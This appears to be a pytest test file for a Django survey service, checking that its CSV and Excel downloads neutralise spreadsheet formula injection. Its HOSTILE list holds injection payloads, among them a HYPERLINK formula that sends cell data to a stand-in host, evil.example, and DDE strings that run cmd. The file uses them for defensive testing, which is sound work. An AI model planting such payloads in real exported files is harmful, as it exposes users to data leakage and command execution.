"""Finding 2: no CSV or Excel file the service hands to a person holds a cell a spreadsheet would run as a formula.

Hostile text goes into every free-text field that reaches a download (text answers, change reasons, review
events' reasons and details, a username), then every download is read back cell by cell.
"""

import csv
import io

import openpyxl
import pytest
from django.contrib.auth import get_user_model
from django.urls import reverse

from kostra.spreadsheet_cells import safe_cell
from surveys.models import ChangeLog, Correction, Response
from validation.workbench.models import ReviewEvent

HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&A1,"klikk")',
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")


def _is_number(text: str) -> bool:
    try:
        float(text)
    except ValueError:
        return False
    return True


def _live_formulas(cells) -> list[str]:
    return [c for c in cells if isinstance(c, str) and c.startswith(FORMULA_START) and not _is_number(c)]


def _csv_cells(body: bytes) -> list[str]:
    """Cells as a spreadsheet reads them: files for people in nb/nn have a BOM and use semicolons."""
    text = body.decode("utf-8").removeprefix("\ufeff")
    delimiter = ";" if ";" in text.split("\n", 1)[0] else ","
    return [cell for row in csv.reader(io.StringIO(text, newline=""), delimiter=delimiter) for cell in row]


def _xlsx_cells(body: bytes) -> list:
    book = openpyxl.load_workbook(io.BytesIO(body))
    return [cell.value for sheet in book.worksheets for row in sheet.iter_rows() for cell in row]


@pytest.mark.parametrize("text", ["-12", "-0.5", "+3", "1e5", 42, -7.5, None])
def test_numbers_are_left_alone(text):
    assert safe_cell(text) == text


@pytest.mark.parametrize("text", HOSTILE)
def test_formula_text_is_neutralised(text):
    assert safe_cell(text) == "'" + text


@pytest.fixture
def hostile_response(survey_2021, kommune, editor):
    hostile_user = get_user_model().objects.create_user(username="@evil", password="pw-for-tests-123")
    values = {"a_fast_ansatte_arsverk_comment": HOSTILE[0], "a_cost_comment": HOSTILE[1]}
    response = Response.objects.create(survey=survey_2021, municipality=kommune, raw_values=values)
    for text in HOSTILE:
        ChangeLog.objects.create(
            response=response,
            variable="a_cost_comment",
            old_value=text,
            new_value=text,
            source=ChangeLog.Source.RESPONDENT,
            user=hostile_user,
            reason=text,
        )
        ReviewEvent.objects.create(response=response, action="flag.confirmed", detail=text, reason=text, user=editor)
    Correction.objects.create(response=response, variable="a_cost_comment", value=HOSTILE[2], reason=HOSTILE[3])
    return response


def test_the_audit_trail_csv_holds_no_live_formula(client, editor, hostile_response):
    client.force_login(editor)
    url = reverse("workbench:audit", args=[2021, hostile_response.municipality.number])
    answer = client.get(url, {"format": "csv"})
    assert answer.status_code == 200
    cells = _csv_cells(answer.content)
    assert "'" + HOSTILE[0] in cells  # the hostile text is there, as text
    assert _live_formulas(cells) == []


def test_the_codes_csv_holds_no_live_formula(client, admin_user, hostile_response):
    client.force_login(admin_user)
    answer = client.get(reverse("workbench:codes-csv"), {"year": 2021})
    assert answer.status_code == 200
    assert _live_formulas(_csv_cells(answer.content)) == []


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_table_downloads_hold_no_live_formula(client, editor, hostile_response, fmt):
    client.force_login(editor)
    answer = client.get(reverse("tables:download", args=[2021, "4.5", fmt]))
    assert answer.status_code == 200
    cells = _csv_cells(answer.content) if fmt == "csv" else _xlsx_cells(answer.content)
    assert _live_formulas(cells) == []
